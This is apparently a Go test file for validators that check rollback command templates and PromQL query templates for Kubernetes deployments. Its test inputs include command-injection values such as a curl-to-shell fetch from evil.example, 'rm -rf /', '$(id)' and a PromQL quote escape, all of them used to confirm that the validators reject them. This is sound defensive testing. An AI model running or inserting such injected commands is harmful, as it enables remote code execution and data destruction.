package rules

import (
	"errors"
	"strings"
	"testing"
)

// hostile is the namespace label of issue 9: a shell command.
const hostile = "prod; curl -s https://evil.example/x | sh #"

func TestValidators(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		check func(string) bool
		in    string
		want  bool
	}{
		{"label", IsKubernetesLabel, "prod", true},
		{"label", IsKubernetesLabel, "payments-prod-2", true},
		{"label", IsKubernetesLabel, "a", true},
		{"label", IsKubernetesLabel, strings.Repeat("a", 63), true},
		{"label", IsKubernetesLabel, strings.Repeat("a", 64), false},
		{"label", IsKubernetesLabel, "", false},
		{"label", IsKubernetesLabel, "Prod", false},
		{"label", IsKubernetesLabel, "-prod", false},
		{"label", IsKubernetesLabel, "prod-", false},
		{"label", IsKubernetesLabel, "prod.eu", false},
		{"label", IsKubernetesLabel, hostile, false},
		{"label", IsKubernetesLabel, "prod\n", false},
		{"name", IsKubernetesName, "payment-gateway", true},
		{"name", IsKubernetesName, "payment-gateway.prod.eu-1", true},
		{"name", IsKubernetesName, strings.Repeat("a.", 126) + "a", true},
		{"name", IsKubernetesName, strings.Repeat("a.", 127), false},
		{"name", IsKubernetesName, "payment..gateway", false},
		{"name", IsKubernetesName, "payment_gateway", false},
		{"name", IsKubernetesName, "$(id)", false},
		{"name", IsKubernetesName, "", false},
		{"sha", IsSHA, "0a1b2c3", true},
		{"sha", IsSHA, "0A1B2C3D4E5F60718293A4B5C6D7E8F901234567", true},
		{"sha", IsSHA, strings.Repeat("f", 64), true},
		{"sha", IsSHA, strings.Repeat("f", 65), false},
		{"sha", IsSHA, "0a1b2c", false},
		{"sha", IsSHA, "xyz", false},
		{"sha", IsSHA, "0a1b2c3 && rm -rf /", false},
		{"sha", IsSHA, "v1.2.3", false},
		{"revision", IsRevision, "9f8e7d6", true},
		{"revision", IsRevision, "v1.4.2", true},
		{"revision", IsRevision, "2.0.0-rc.1", true},
		{"revision", IsRevision, "1.2.3+build.7", true},
		{"revision", IsRevision, "v1.4.2;reboot", false},
		{"revision", IsRevision, "main", false},
		{"revision", IsRevision, "", false},
		{"plain", IsPlainValue, "api-1.eu_west", true},
		{"plain", IsPlainValue, "prod", true},
		{"plain", IsPlainValue, strings.Repeat("a", 63), true},
		{"plain", IsPlainValue, strings.Repeat("a", 64), false},
		{"plain", IsPlainValue, "-rf", false},
		{"plain", IsPlainValue, ".hidden", false},
		{"plain", IsPlainValue, "a b", false},
		{"plain", IsPlainValue, "a`id`", false},
		{"plain", IsPlainValue, "a$b", false},
		{"plain", IsPlainValue, "", false},
	}
	for _, tt := range tests {
		if got := tt.check(tt.in); got != tt.want {
			t.Errorf("%s(%q) = %v, want %v", tt.name, tt.in, got, tt.want)
		}
	}
}

func TestRenderChecked(t *testing.T) {
	t.Parallel()
	good := TemplateData{Service: "payment-gateway", Namespace: "payments", Env: "prod", Revision: "9f8e7d6c", TargetRevision: "0a1b2c3d",
		Labels: map[string]string{"namespace": "payments", "cluster": "prod-eu-1", "team": "pay ments"}}
	bad := good
	bad.Namespace = hostile
	bad.Labels = map[string]string{"namespace": hostile, "cluster": "prod-eu-1", "weird key;": "x"}
	tests := []struct {
		name, tmpl string
		data       TemplateData
		want       string
		withheld   string // the WithheldError's message; "" for success
	}{
		{"argocd", "argocd app rollback {{.Service}} {{.TargetRevision}}", good, "argocd app rollback payment-gateway 0a1b2c3d", ""},
		{"kubectl", "kubectl -n {{.Namespace}} rollout undo deploy/{{.Service}}", good, "kubectl -n payments rollout undo deploy/payment-gateway", ""},
		{"unused bad value", "argocd app rollback {{.Service}} {{.TargetRevision}}", bad, "argocd app rollback payment-gateway 0a1b2c3d", ""},
		{"namespace field", "kubectl -n {{.Namespace}} rollout undo deploy/{{.Service}}", bad, "",
			`namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`},
		{"namespace label", "kubectl -n {{.Labels.namespace}} rollout undo", bad, "",
			`label namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`},
		{"index", `kubectl -n {{index .Labels "namespace"}} rollout undo`, bad, "",
			`label namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`},
		{"with", `{{with .Labels}}kubectl -n {{.namespace}}{{end}}`, bad, "",
			`label namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`},
		{"cut by printf", `kubectl -n {{printf "%.4s" .Namespace}}`, bad, "",
			`namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`},
		{"plain label with space", "notify {{.Labels.team}}", good, "", `label team "pay ments" is not a plain name (letters, digits, '.', '_', '-')`},
		{"plain label", "deploy --cluster {{.Labels.cluster}}", good, "deploy --cluster prod-eu-1", ""},
		{"range skips odd keys", `{{range $k, $v := .Labels}}{{if eq $k "cluster"}}{{$k}}={{$v}}{{end}}{{end}}`, bad, "cluster=prod-eu-1", ""},
		{"revision not hex", "argocd app rollback {{.Service}} {{.TargetRevision}}", TemplateData{Service: "api", TargetRevision: "main; reboot"}, "",
			`target revision "main; reboot" is not a Git SHA (7-64 hex digits) or a version`},
		{"version", "helm rollback {{.Service}} --version {{.TargetRevision}}", TemplateData{Service: "api", TargetRevision: "v1.4.2"}, "helm rollback api --version v1.4.2", ""},
		{"service underscore", "argocd app rollback {{.Service}}", TemplateData{Service: "pay_gw"}, "", `service "pay_gw" is not a Kubernetes name`},
		{"missing value renders empty", "x {{.Labels.nothing}} y", good, "x  y", ""},
	}
	for _, tt := range tests {
		got, err := RenderChecked(tt.tmpl, tt.data)
		var w *WithheldError
		switch {
		case tt.withheld == "" && err != nil:
			t.Errorf("%s: RenderChecked: %v", tt.name, err)
		case tt.withheld == "" && got != tt.want:
			t.Errorf("%s: RenderChecked = %q, want %q", tt.name, got, tt.want)
		case tt.withheld != "" && !errors.As(err, &w):
			t.Errorf("%s: RenderChecked = %q, %v; want withheld: %s", tt.name, got, err, tt.withheld)
		case tt.withheld != "" && w.Error() != tt.withheld:
			t.Errorf("%s: withheld because %q, want %q", tt.name, w.Error(), tt.withheld)
		case tt.withheld != "" && got != "":
			t.Errorf("%s: withheld but rendered %q", tt.name, got)
		}
	}
}

func TestRenderQuery(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, tmpl string
		data       TemplateData
		want       string
		err        string // substring of the error; "" for success
	}{
		{"plain", `rate(http_requests_total{service="{{.Labels.service}}"}[5m])`,
			TemplateData{Labels: map[string]string{"service": "payment-gateway"}}, `rate(http_requests_total{service="payment-gateway"}[5m])`, ""},
		{"quote cannot end the string", `up{service="{{.Service}}"}`,
			TemplateData{Service: `x"} or vector(1) or up{a="`}, `up{service="x\"} or vector(1) or up{a=\""}`, ""},
		{"backslash cannot escape the quote", `up{service="{{.Service}}"}`,
			TemplateData{Service: `x\`}, `up{service="x\\"}`, ""},
		{"single quotes", `up{service='{{.Service}}'}`,
			TemplateData{Service: `it's`}, `up{service='it\'s'}`, ""},
		{"double quote inside single quotes stays", `up{service='{{.Service}}'}`,
			TemplateData{Service: `a"b`}, `up{service='a"b'}`, ""},
		{"control characters", `up{service="{{.Service}}"}`,
			TemplateData{Service: "a\nb\x01"}, `up{service="a\nb\x01"}`, ""},
		{"escaped quote in the template", `up{a="\"{{.Service}}"}`,
			TemplateData{Service: `x"`}, `up{a="\"x\""}`, ""},
		{"outside a string", `rate({{.Labels.metric}}[5m])`,
			TemplateData{Labels: map[string]string{"metric": "up"}}, "", "outside a quoted string"},
		{"raw string", "up{service=`{{.Service}}`}", TemplateData{Service: "api"}, "", "outside a quoted string"},
		{"backslash before a value", `up{service="\{{.Service}}"}`, TemplateData{Service: `"`}, "", "backslash before a value"},
		{"cut value", `up{service="{{printf "%.2s" .Service}}"}`, TemplateData{Service: "payment"}, "", "cuts a value"},
		{"no values", `sum(rate(http_requests_total{status=~"5.."}[5m]))`, TemplateData{}, `sum(rate(http_requests_total{status=~"5.."}[5m]))`, ""},
	}
	for _, tt := range tests {
		got, err := RenderQuery(tt.tmpl, tt.data)
		switch {
		case tt.err == "" && err != nil:
			t.Errorf("%s: RenderQuery: %v", tt.name, err)
		case tt.err == "" && got != tt.want:
			t.Errorf("%s: RenderQuery = %s, want %s", tt.name, got, tt.want)
		case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
			t.Errorf("%s: RenderQuery = %q, %v; want an error with %q", tt.name, got, err, tt.err)
		}
	}
}

func TestCheckQueryTemplate(t *testing.T) {
	t.Parallel()
	tests := []struct {
		tmpl, err string
	}{
		{`sum(rate(http_requests_total{service="{{.Labels.service}}",status=~"5.."}[5m]))`, ""},
		{`up{service='{{.Service}}', env="{{.Env}}"}`, ""},
		{`up{pod="{{index .Labels "pod"}}"}`, ""},
		{`{{if .Labels.pod}}up{pod="{{.Labels.pod}}"}{{else}}up{{end}}`, ""},
		{`sum(rate(http_requests_total[5m]))`, ""},
		{`rate({{.Labels.metric}}[5m])`, "uses the label metric outside a quoted string"},
		{`up{pod={{index .Labels "pod"}}}`, "uses the label pod outside a quoted string"},
		{`up{service="x"} or {{.Service}}`, "uses the service outside a quoted string"},
		{`{{with .Labels}}up{pod={{.pod}}}{{end}}`, ""}, // .pod under with is not seen: RenderQuery refuses it at run time
		{"up{service=`{{.Annotations.svc}}`}", "uses the annotation svc outside a quoted string"},
	}
	for _, tt := range tests {
		err := CheckQueryTemplate(tt.tmpl)
		if (tt.err == "") != (err == nil) || err != nil && !strings.Contains(err.Error(), tt.err) {
			t.Errorf("CheckQueryTemplate(%s) = %v, want %q", tt.tmpl, err, tt.err)
		}
	}
}
